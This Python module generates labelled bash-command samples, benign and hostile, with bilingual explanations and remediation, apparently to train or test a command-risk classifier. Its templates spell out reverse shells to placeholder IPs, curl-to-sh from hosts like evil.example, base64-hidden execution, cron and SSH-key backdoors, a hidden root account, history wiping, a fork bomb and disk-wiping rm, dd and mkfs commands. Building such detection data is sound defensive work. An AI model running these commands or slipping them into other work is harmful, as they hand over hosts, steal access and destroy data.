"""Bash: reverse shells, curl | sh, destructive rm / dd / mkfs, cron and ssh-key persistence,
history wiping, base64-decoded execution, reconnaissance; and benign look-alikes (cleaning a build
folder, downloading without running, listing crontab, decoding base64 to the screen)."""

from __future__ import annotations

import base64

from fwyy_ollama.dataset.catalog import Category, Params, Template
from fwyy_ollama.report import Label

POOL = {
    "ip": ("10.0.0.5", "10.10.14.3", "192.168.56.101", "203.0.113.9", "198.51.100.23", "172.16.5.20"),
    "port": ("4444", "1337", "9001", "8080", "443", "53", "6666"),
    "host": ("evil.example", "update-cdn.test", "dl.attacker.test", "203.0.113.9", "pkg-mirror.invalid"),
    "script": ("x.sh", "install.sh", "i", "update", "s.sh", "setup"),
    "bin": ("kworker", "dbus-daemon", ".x", "syslogd", "miner", "agent"),
    "good": ("github.com", "get.docker.com", "sh.rustup.rs", "deb.nodesource.com", "example.com"),
    "dir": ("/var/log", "~/projects", "/srv/app", "/tmp/build", "./src", "/opt/data"),
    "word": ("TODO", "password", "FIXME", "error", "deprecated", "api_key"),
    "disk": ("sda", "nvme0n1", "vda", "sdb", "xvda"),
    "attacker": ("eve", "mallory", "sysbackup", "toor"),
    "keyid": ("AAAAC3NzaC1lZDI1NTE5AAAAIK1x", "AAAAC3NzaC1lZDI1NTE5AAAAIF9q", "AAAAB3NzaC1yc2EAAAADAQABAAAB"),
    "sched": ("*/5 * * * *", "*/10 * * * *", "@reboot", "0 * * * *", "*/1 * * * *"),
    "user": ("deploy", "ubuntu", "alice", "ci"),
    "date": ("2026-01-31", "2026-02-14", "2025-12-24", "2026-03-01"),
    "av": ("falcon", "clamd", "auditd", "osquery", "wazuh"),
    "mode": ("777", "o+w", "a+rwx", "666"),
}

SUBJECTS = {
    "en": ("This shell command", "This Bash command", "This Bash one-liner"),
    "zh": ("这条 Shell 命令", "这条 Bash 命令", "这行 Bash 命令"),
}


def _b64_curl(params: Params) -> Params:
    cmd = f"curl -s http://{params['host']}/{params['script']} | sh"
    return {"b64": base64.b64encode(cmd.encode()).decode(), "decoded": cmd}


def _b64_revshell(params: Params) -> Params:
    cmd = f"bash -i >& /dev/tcp/{params['ip']}/{params['port']} 0>&1"
    return {"b64": base64.b64encode(cmd.encode()).decode(), "decoded": cmd}


def _b64_text(params: Params) -> Params:
    return {"b64": base64.b64encode(params["msg"].encode()).decode()}


T = Template
S = Label.SAFE
L = Label.LOW
M = Label.MEDIUM
H = Label.HIGH
C = Label.CRITICAL

TEMPLATES = (
    # ------------------------------------------------------------------ safe look-alikes
    T(
        "bash.ls",
        "bash",
        S,
        "ls -la {dir}",
        (
            "only lists the files in `{dir}` with their permissions; it reads nothing else and changes nothing.",
            "None.",
            "No action needed.",
        ),
        (
            "只是列出 `{dir}` 中的文件及其权限，不读取其他内容，也不做任何修改。",
            "无。",
            "无需处理。",
        ),
    ),
    T(
        "bash.rm_build",
        "bash",
        S,
        "rm -rf ./build ./dist {extra}",
        (
            "deletes the local `./build` and `./dist` folders (and `{extra}`) relative to the project, the usual "
            "clean step; it is not a path outside the working directory.",
            "None, if run from the project folder.",
            "Run it from the repository root; prefer `git clean -ndx` to preview what would be removed.",
        ),
        (
            "删除项目内相对路径下的 `./build`、`./dist`（以及 `{extra}`），是常见的清理步骤，不涉及工作目录之外的路径。",
            "无（在项目目录中执行时）。",
            "在仓库根目录执行；可先用 `git clean -ndx` 预览将删除的内容。",
        ),
        params={"extra": ("*.egg-info", ".pytest_cache", "node_modules/.cache", "coverage.xml", ".tox")},
    ),
    T(
        "bash.download_inspect",
        "bash",
        S,
        "curl -fsSL https://{good}/{script} -o {script} && less {script}",
        (
            "downloads a script from {good} over https to a file and opens it for reading; nothing is executed.",
            "None; this is the careful alternative to piping into sh.",
            "Read it, verify a checksum or signature, then run it deliberately.",
        ),
        (
            "通过 https 从 {good} 下载脚本到文件并打开查看，不执行任何内容。",
            "无；这正是替代“管道给 sh”的谨慎做法。",
            "阅读脚本，校验哈希或签名后再有意识地执行。",
        ),
    ),
    T(
        "bash.crontab_list",
        "bash",
        S,
        "crontab -l -u {user}",
        (
            "lists (`-l`) the scheduled jobs of user `{user}` without changing them.",
            "None.",
            "No action; reviewing crontabs is good hygiene.",
        ),
        (
            "只是列出（`-l`）用户 `{user}` 的计划任务，不做修改。",
            "无。",
            "无需处理；定期检查 crontab 是好习惯。",
        ),
    ),
    T(
        "bash.b64_print",
        "bash",
        S,
        "echo {b64} | base64 -d",
        (
            'decodes a base64 string to the terminal (it reads "{msg}"); the output is printed, not executed.',
            "None.",
            "No action; be wary only if the decoded text is piped into a shell.",
        ),
        (
            "把一段 base64 解码输出到终端（内容为“{msg}”），只打印，不执行。",
            "无。",
            "无需处理；只有当解码结果被管道交给 Shell 时才需警惕。",
        ),
        params={"msg": ("hello world", "build ok", "release v1.2.3", "meeting at 10", "config loaded")},
        derive=_b64_text,
    ),
    T(
        "bash.grep",
        "bash",
        S,
        'grep -rn "{word}" {dir}',
        (
            "searches the files under `{dir}` for the text `{word}` and prints matching lines; read-only.",
            "None (mind that matches may show secrets on screen).",
            "No action needed.",
        ),
        (
            "在 `{dir}` 下的文件中搜索文本 `{word}` 并打印匹配行，只读操作。",
            "无（注意匹配结果可能在屏幕上显示敏感信息）。",
            "无需处理。",
        ),
    ),
    T(
        "bash.tar_backup",
        "bash",
        S,
        "tar czf backup-{date}.tar.gz {dir}",
        (
            "archives `{dir}` into `backup-{date}.tar.gz`; it only reads the folder and writes one new file.",
            "None.",
            "No action; keep backups somewhere access-controlled.",
        ),
        (
            "把 `{dir}` 打包成 `backup-{date}.tar.gz`，只读取该目录并写出一个新文件。",
            "无。",
            "无需处理；备份文件应存放在有访问控制的位置。",
        ),
    ),
    # ------------------------------------------------------------------ low: reconnaissance
    T(
        "bash.suid_hunt",
        "bash",
        L,
        "find {root} -perm {perm} -type f 2>/dev/null",
        (
            "searches `{root}` for SUID binaries (`-perm {perm}`) and hides errors; it changes nothing but is a "
            "standard privilege-escalation reconnaissance step.",
            "Reconnaissance preceding local privilege escalation (CWE-250 targets).",
            "Investigate who ran it; minimise SUID binaries; monitor for enumeration commands.",
        ),
        (
            "在 `{root}` 中查找 SUID 程序（`-perm {perm}`）并隐藏错误；本身不做修改，但这是提权前的典型侦察步骤。",
            "本地提权前的侦察（寻找 CWE-250 类目标）。",
            "调查是谁执行的；尽量减少 SUID 程序；监控枚举类命令。",
        ),
        params={"root": ("/", "/usr", "/opt", "/usr/local"), "perm": ("-4000", "-u=s", "/6000")},
    ),
    T(
        "bash.sysinfo",
        "bash",
        L,
        "id; uname -a; cat /etc/os-release; ps aux | grep -i {av}",
        (
            "collects the user id, kernel version, OS release and whether `{av}` (a security agent) is running: "
            "typical first steps after gaining a foothold.",
            "Reconnaissance; reveals exploitable versions and defences.",
            "Find out why this ran; alert when recon commands follow a new login.",
        ),
        (
            "收集用户 ID、内核版本、系统版本，并查看安全代理 `{av}` 是否在运行：这是入侵后常见的第一步。",
            "侦察行为，会暴露可利用的版本和防护情况。",
            "查明执行原因；新登录后出现侦察命令时告警。",
        ),
    ),
    T(
        "bash.port_scan",
        "bash",
        L,
        "nc -zv {ip} 20-{top}",
        (
            "uses netcat in scan mode (`-z`) to probe TCP ports 20 to {top} on {ip}; it connects but sends no data.",
            "Network reconnaissance of {ip}.",
            "Confirm the scan is authorised; alert on scans from internal hosts.",
        ),
        (
            "使用 netcat 扫描模式（`-z`）探测 {ip} 的 TCP 端口 20 到 {top}，只建立连接不发送数据。",
            "对 {ip} 的网络侦察。",
            "确认扫描已获授权；对内网主机发起的扫描告警。",
        ),
        params={"top": ("1024", "443", "8080", "10000", "65535")},
    ),
    T(
        "bash.sudo_l",
        "bash",
        L,
        "sudo -l; cat /etc/passwd | cut -d: -f1",
        (
            "lists what the current user may run with sudo and enumerates local account names: privilege "
            "reconnaissance, no change made.",
            "Reconnaissance for privilege escalation.",
            "Check the session's origin; restrict sudo rules to what each user needs.",
        ),
        (
            "列出当前用户可用 sudo 执行的命令并枚举本地账户名：提权侦察，未做修改。",
            "为提权进行的侦察。",
            "核查该会话来源；sudo 规则只授予必要权限。",
        ),
        subject=("This shell command sequence", "这组 Shell 命令"),
    ),
    T(
        "bash.env_secrets",
        "bash",
        L,
        "env | grep -i {pat}; cat ~/.{rc} | grep -i {pat}",
        (
            "searches the environment and `~/.{rc}` for names containing `{pat}`: hunting for credentials "
            "left in variables or shell profiles.",
            "Credential discovery (T1552.001); exposure of secrets stored in the environment.",
            "Find who ran it; keep secrets out of env files and shell profiles (use a secrets manager).",
        ),
        (
            "在环境变量和 `~/.{rc}` 中搜索包含 `{pat}` 的名称：在变量或 Shell 配置里搜寻遗留的凭据。",
            "凭据搜寻（T1552.001），环境中保存的机密可能泄露。",
            "查明执行者；不要把机密放在环境文件和 Shell 配置中（使用密钥管理服务）。",
        ),
        params={"pat": ("key", "token", "pass", "secret", "aws"), "rc": ("bashrc", "profile", "zshrc")},
    ),
    T(
        "bash.listen_ports",
        "bash",
        L,
        "{tool} | grep {state}",
        (
            "lists the sockets on this host (`{tool}`) filtered by `{state}`: mapping local services, usually "
            "before lateral movement.",
            "Reconnaissance of local services.",
            "Check whether an admin ran it; alert on recon bursts from unusual accounts.",
        ),
        (
            "列出本机套接字（`{tool}`）并按 `{state}` 过滤：摸清本地服务，通常发生在横向移动之前。",
            "对本地服务的侦察。",
            "确认是否为管理员操作；对异常账户的密集侦察告警。",
        ),
        params={
            "tool": ("ss -tulpn", "netstat -antp", "netstat -tlnp", "lsof -i -P -n"),
            "state": ("LISTEN", "ESTAB", ":22", ":3306"),
        },
    ),
    T(
        "bash.ssh_recon",
        "bash",
        L,
        "cat ~/.ssh/known_hosts ~/.ssh/config; ls -la ~/.ssh/{key}",
        (
            "reads the SSH known_hosts and config and checks for the private key `{key}`: collecting "
            "targets and keys for lateral movement.",
            "Reconnaissance that precedes lateral movement (T1021.004).",
            "Hash known_hosts (`HashKnownHosts yes`), protect keys with passphrases, and investigate the session.",
        ),
        (
            "读取 SSH 的 known_hosts 和 config，并查看私钥 `{key}`：为横向移动收集目标与密钥。",
            "横向移动前的侦察（T1021.004）。",
            "对 known_hosts 做哈希（`HashKnownHosts yes`），私钥加口令保护，并调查该会话。",
        ),
        params={"key": ("id_rsa", "id_ed25519", "id_ecdsa", "deploy_key")},
    ),
    # ------------------------------------------------------------------ medium: anti-forensics, weakening
    T(
        "bash.history_clear",
        "bash",
        M,
        "history -c && rm -f ~/.{hist}",
        (
            "clears the in-memory history and deletes `~/.{hist}`, erasing the record of commands run "
            "in this account.",
            "Anti-forensics: hides attacker activity (CWE-778 for the victim's logging).",
            "Investigate the session; ship shell history and auth logs to a remote log server.",
        ),
        (
            "清空内存中的历史并删除 `~/.{hist}`，抹去该账户执行过的命令记录。",
            "反取证：掩盖攻击者的操作（使受害方日志失效，CWE-778）。",
            "调查该会话；把 Shell 历史与认证日志实时送到远程日志服务器。",
        ),
        params={"hist": ("bash_history", "zsh_history", "python_history", "mysql_history")},
    ),
    T(
        "bash.histfile_unset",
        "bash",
        M,
        "unset HISTFILE; export HISTSIZE=0",
        (
            "disables history for the rest of the session (`unset HISTFILE`, `HISTSIZE=0`), so nothing typed "
            "afterwards is recorded.",
            "Anti-forensics preparing unlogged activity.",
            "Treat it as a compromise indicator; use auditd/eBPF command logging that users cannot switch off.",
        ),
        (
            "在本会话中关闭历史记录（`unset HISTFILE`、`HISTSIZE=0`），之后输入的命令都不会被记录。",
            "反取证，为不留痕迹的操作做准备。",
            "视为入侵迹象；使用用户无法关闭的 auditd/eBPF 命令审计。",
        ),
    ),
    T(
        "bash.history_null",
        "bash",
        M,
        "ln -sf /dev/null ~/.{hist}",
        (
            "links `~/.{hist}` to `/dev/null`, so every future command history is silently discarded.",
            "Persistent anti-forensics on this account.",
            "Restore the file, investigate, and collect command logs centrally.",
        ),
        (
            "把 `~/.{hist}` 链接到 `/dev/null`，以后所有命令历史都会被悄悄丢弃。",
            "对该账户持续性的反取证。",
            "恢复该文件并调查；集中收集命令日志。",
        ),
        params={"hist": ("bash_history", "zsh_history", "python_history", "mysql_history")},
    ),
    T(
        "bash.chmod_world",
        "bash",
        M,
        "chmod -R {mode} {dir}",
        (
            "recursively makes everything in `{dir}` writable by every user (`{mode}`), so any local account "
            "can alter those files.",
            "Incorrect permission assignment (CWE-732): tampering and privilege escalation.",
            "Revert to least-privilege modes (e.g. 755/644) and fix ownership instead.",
        ),
        (
            "递归地把 `{dir}` 下所有文件设为所有用户可写（`{mode}`），任何本地账户都能篡改。",
            "权限分配不当（CWE-732）：可被篡改并用于提权。",
            "恢复最小权限（如 755/644），改为正确设置属主。",
        ),
    ),
    T(
        "bash.stage_binary",
        "bash",
        M,
        "wget -q http://{host}/{bin} -O /tmp/.{bin} && chmod +x /tmp/.{bin}",
        (
            "downloads `{bin}` from {host} over plain http into a hidden file in /tmp and marks it executable; "
            "it does not run it yet (a staging step).",
            "Staging of untrusted code (CWE-494); likely followed by execution.",
            "Block the host; remove `/tmp/.{bin}`; mount /tmp noexec; find what triggered this.",
        ),
        (
            "通过明文 http 从 {host} 下载 `{bin}` 到 /tmp 的隐藏文件并赋予执行权限，暂未运行（投放准备）。",
            "投放未经验证的代码（CWE-494），很可能随后执行。",
            "封禁该主机；删除 `/tmp/.{bin}`；/tmp 以 noexec 挂载；查明触发来源。",
        ),
    ),
    # ------------------------------------------------------------------ high: execution and persistence
    T(
        "bash.curl_sh",
        "bash",
        H,
        "curl -s http://{host}/{script} | {sh}",
        (
            "downloads `{script}` from {host} over plain http and pipes it straight into `{sh}`, running "
            "whatever the server sends with your privileges.",
            "Execution of unverified remote code (CWE-494); the host can change it at any time.",
            "Do not run it; download over https, inspect and verify a checksum before executing.",
        ),
        (
            "通过明文 http 从 {host} 下载 `{script}` 并直接管道交给 `{sh}`，以你的权限执行服务器返回的任何内容。",
            "执行未经验证的远程代码（CWE-494），对方可随时替换内容。",
            "不要运行；改用 https 下载，检查并校验哈希后再执行。",
        ),
        params={"sh": ("sh", "bash", "sudo bash")},
    ),
    T(
        "bash.wget_bash",
        "bash",
        H,
        "wget -qO- http://{host}/{script} | bash",
        (
            "fetches `{script}` from {host} quietly (`-qO-`) and executes it with bash without saving or "
            "checking it.",
            "Remote code execution from an untrusted source (CWE-494).",
            "Block it; fetch over https, review, and verify signatures before running.",
        ),
        (
            "静默（`-qO-`）从 {host} 获取 `{script}` 并直接交给 bash 执行，既不保存也不校验。",
            "执行来自不可信来源的远程代码（CWE-494）。",
            "阻止执行；改用 https 获取，审阅并校验签名后再运行。",
        ),
    ),
    T(
        "bash.cron_persist",
        "bash",
        H,
        '(crontab -l; echo "{sched} curl -s http://{host}/{script} | sh") | crontab -',
        (
            "appends a cron job (`{sched}`) that keeps downloading and running `{script}` from {host}, so the "
            "attacker's code survives reboots and cleanup.",
            "Persistence via scheduled task (MITRE T1053.003) with remote code execution (CWE-494).",
            "Remove the entry with `crontab -e`, block {host}, and investigate how it got there.",
        ),
        (
            "追加一条计划任务（`{sched}`），反复从 {host} 下载并运行 `{script}`，使攻击者代码在重启和清理后依然存在。",
            "通过计划任务实现持久化（MITRE T1053.003），并执行远程代码（CWE-494）。",
            "用 `crontab -e` 删除该条目，封禁 {host}，并调查其来源。",
        ),
    ),
    T(
        "bash.cron_reboot",
        "bash",
        H,
        'echo "@reboot root /tmp/.{bin}" >> /etc/crontab',
        (
            "adds a system crontab line that starts the hidden file `/tmp/.{bin}` as root at every boot.",
            "Root persistence via cron (T1053.003).",
            "Delete the line and the file, check /etc/crontab integrity, investigate the root compromise.",
        ),
        (
            "在系统 crontab 中加入一行，每次开机都以 root 身份启动隐藏文件 `/tmp/.{bin}`。",
            "通过 cron 获得 root 持久化（T1053.003）。",
            "删除该行和文件，检查 /etc/crontab 完整性，调查 root 权限被攻破的原因。",
        ),
    ),
    T(
        "bash.ssh_key",
        "bash",
        H,
        'echo "ssh-ed25519 {keyid} {attacker}@{host}" >> ~/.ssh/authorized_keys',
        (
            "appends the key of `{attacker}@{host}` to `~/.ssh/authorized_keys`, letting that key log in as "
            "this user without a password.",
            "Backdoor SSH access and persistence (T1098.004).",
            "Remove the key, review authorized_keys on all hosts, and manage keys centrally.",
        ),
        (
            "把 `{attacker}@{host}` 的公钥追加到 `~/.ssh/authorized_keys`，该密钥即可免密以此用户登录。",
            "SSH 后门访问与持久化（T1098.004）。",
            "删除该密钥，检查所有主机的 authorized_keys，并集中管理密钥。",
        ),
    ),
    T(
        "bash.b64_exec",
        "bash",
        H,
        "echo {b64} | base64 -d | sh",
        (
            "decodes a hidden command and pipes it into sh; decoded it is `{decoded}`, which downloads and runs a "
            "remote script.",
            "Obfuscated remote code execution (CWE-506, CWE-494).",
            "Do not run it; block {host}; alert on `base64 -d | sh` patterns.",
        ),
        (
            "解码一条隐藏的命令并管道交给 sh 执行；解码后是 `{decoded}`，会下载并运行远程脚本。",
            "经过混淆的远程代码执行（CWE-506、CWE-494）。",
            "不要运行；封禁 {host}；对 `base64 -d | sh` 模式告警。",
        ),
        derive=_b64_curl,
        uses=("script",),
    ),
    T(
        "bash.uid0_user",
        "bash",
        H,
        "useradd -o -u 0 -g 0 -M -s /bin/bash {attacker}",
        (
            "creates a second account `{attacker}` with uid 0 (`-o -u 0`), i.e. another root user that is easy "
            "to overlook.",
            "Hidden root account (T1136.001): full control of the host.",
            "Delete the account, audit /etc/passwd for uid 0 duplicates, rotate credentials.",
        ),
        (
            "创建一个 uid 为 0 的账户 `{attacker}`（`-o -u 0`），即另一个不易察觉的 root 用户。",
            "隐藏的 root 账户（T1136.001）：完全控制主机。",
            "删除该账户，检查 /etc/passwd 中重复的 uid 0，轮换凭据。",
        ),
    ),
    T(
        "bash.fork_bomb",
        "bash",
        H,
        "{fn}(){{ {fn}|{fn}& }};{fn}",
        (
            "is a fork bomb: the function `{fn}` calls itself twice in the background forever until the "
            "process table is full.",
            "Denial of service: the machine stops responding (CWE-400).",
            "Do not run it; set per-user process limits (`ulimit -u`, systemd TasksMax).",
        ),
        (
            "是 fork 炸弹：函数 `{fn}` 不断在后台调用自身两次，直到进程表被占满。",
            "拒绝服务：机器失去响应（CWE-400）。",
            "不要运行；设置每用户进程数上限（`ulimit -u`、systemd TasksMax）。",
        ),
        params={"fn": (":", "f", "bomb", "x", "_")},
    ),
    # ------------------------------------------------------------------ critical: remote control, destruction
    T(
        "bash.revshell_tcp",
        "bash",
        C,
        "bash -i >& /dev/tcp/{ip}/{port} 0>&1",
        (
            "opens an interactive bash whose input and output go to a TCP connection to {ip}:{port}: a reverse "
            "shell handing this machine to whoever listens there.",
            "Full remote control of the host (CWE-506).",
            "Kill the process, block {ip}, isolate the host and investigate; restrict outbound traffic.",
        ),
        (
            "打开交互式 bash，并把输入输出重定向到连向 {ip}:{port} 的 TCP 连接：反弹 Shell，把机器交给对端监听者。",
            "主机被完全远程控制（CWE-506）。",
            "结束进程，封禁 {ip}，隔离主机并调查；限制出站流量。",
        ),
    ),
    T(
        "bash.revshell_nc",
        "bash",
        C,
        "nc -e /bin/sh {ip} {port}",
        (
            "connects to {ip}:{port} with netcat and attaches `/bin/sh` (`-e`), giving the remote side a shell.",
            "Remote command execution as this user (CWE-506).",
            "Kill it, block {ip}, remove netcat builds with -e, investigate the host.",
        ),
        (
            "用 netcat 连接 {ip}:{port} 并挂上 `/bin/sh`（`-e`），让对端获得 Shell。",
            "对端可以当前用户身份远程执行命令（CWE-506）。",
            "结束进程，封禁 {ip}，移除支持 -e 的 netcat，调查主机。",
        ),
    ),
    T(
        "bash.revshell_fifo",
        "bash",
        C,
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ip} {port} >/tmp/f",
        (
            "builds a reverse shell from a named pipe: `/bin/sh -i` reads commands arriving from {ip}:{port} via "
            "nc and sends the output back.",
            "Remote control of the host even without `nc -e` (CWE-506).",
            "Kill the processes, delete /tmp/f, block {ip}, isolate and investigate.",
        ),
        (
            "用命名管道构造反弹 Shell：`/bin/sh -i` 经 nc 读取来自 {ip}:{port} 的命令并把输出送回。",
            "即使没有 `nc -e` 也能远程控制主机（CWE-506）。",
            "结束相关进程，删除 /tmp/f，封禁 {ip}，隔离并调查。",
        ),
    ),
    T(
        "bash.revshell_python",
        "bash",
        C,
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("{ip}",{port}));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
        (
            "runs an inline Python reverse shell: it connects to {ip}:{port}, wires stdin/stdout/stderr to the "
            "socket and spawns `/bin/sh` with a pty.",
            "Interactive remote control of the host (CWE-506).",
            "Kill it, block {ip}, isolate the machine; restrict egress and monitor `python3 -c` with sockets.",
        ),
        (
            "执行内联 Python 反弹 Shell：连接 {ip}:{port}，把标准输入输出接到套接字上，并用 pty 启动 `/bin/sh`。",
            "主机被交互式远程控制（CWE-506）。",
            "结束进程，封禁 {ip}，隔离主机；限制出站并监控带套接字的 `python3 -c`。",
        ),
    ),
    T(
        "bash.b64_revshell",
        "bash",
        C,
        "echo {b64} | base64 -d | bash",
        (
            "hides a reverse shell in base64 and runs it with bash; decoded it is `{decoded}`, connecting a shell "
            "to {ip}:{port}.",
            "Obfuscated remote control of the host (CWE-506).",
            "Kill it, block {ip}, isolate the host; alert on `base64 -d | bash`.",
        ),
        (
            "把反弹 Shell 藏在 base64 里交给 bash 执行；解码后是 `{decoded}`，会把 Shell 连到 {ip}:{port}。",
            "经过混淆的主机远程控制（CWE-506）。",
            "结束进程，封禁 {ip}，隔离主机；对 `base64 -d | bash` 告警。",
        ),
        derive=_b64_revshell,
    ),
    T(
        "bash.rm_root",
        "bash",
        C,
        "{sudo}rm -rf {target}",
        (
            "recursively force-deletes `{target}`, i.e. the whole root filesystem: the OS and every mounted "
            "volume the user can write.",
            "Irrecoverable data destruction (T1485).",
            "Never run it; use rm safeguards (`--preserve-root`), least privilege, and offline backups.",
        ),
        (
            "递归强制删除 `{target}`，即整个根文件系统：操作系统以及用户可写的所有挂载卷。",
            "不可恢复的数据销毁（T1485）。",
            "绝不要运行；启用 rm 保护（`--preserve-root`）、最小权限和离线备份。",
        ),
        params={
            "sudo": ("", "sudo "),
            "target": ("--no-preserve-root /", "/*", "/ --no-preserve-root", "/* .[!.]*"),
        },
    ),
    T(
        "bash.dd_disk",
        "bash",
        C,
        "dd if=/dev/{src} of=/dev/{disk} bs={bs}",
        (
            "overwrites the raw disk `/dev/{disk}` with `/dev/{src}` data, destroying the partition table and "
            "every file on it.",
            "Irrecoverable disk wipe (T1561).",
            "Never run it on a live disk; restrict raw device access; keep backups.",
        ),
        (
            "用 `/dev/{src}` 的数据覆盖原始磁盘 `/dev/{disk}`，破坏分区表和其中所有文件。",
            "不可恢复的磁盘擦除（T1561）。",
            "绝不要在在用磁盘上执行；限制原始设备访问；做好备份。",
        ),
        params={"src": ("zero", "urandom"), "bs": ("1M", "4M", "64K")},
    ),
    T(
        "bash.mkfs",
        "bash",
        C,
        "mkfs.{fs} -F /dev/{disk}",
        (
            "formats `/dev/{disk}` as {fs} with `-F` (no questions asked), wiping the filesystem on that disk.",
            "Destruction of all data on the disk (T1561).",
            "Do not run it; double-check device names; restrict root access.",
        ),
        (
            "用 `-F`（不再确认）把 `/dev/{disk}` 格式化为 {fs}，清除该磁盘上的文件系统。",
            "该磁盘所有数据被销毁（T1561）。",
            "不要运行；反复核对设备名；限制 root 访问。",
        ),
        params={"fs": ("ext4", "xfs", "btrfs")},
    ),
)

CATEGORY = Category("bash", POOL, SUBJECTS, TEMPLATES)
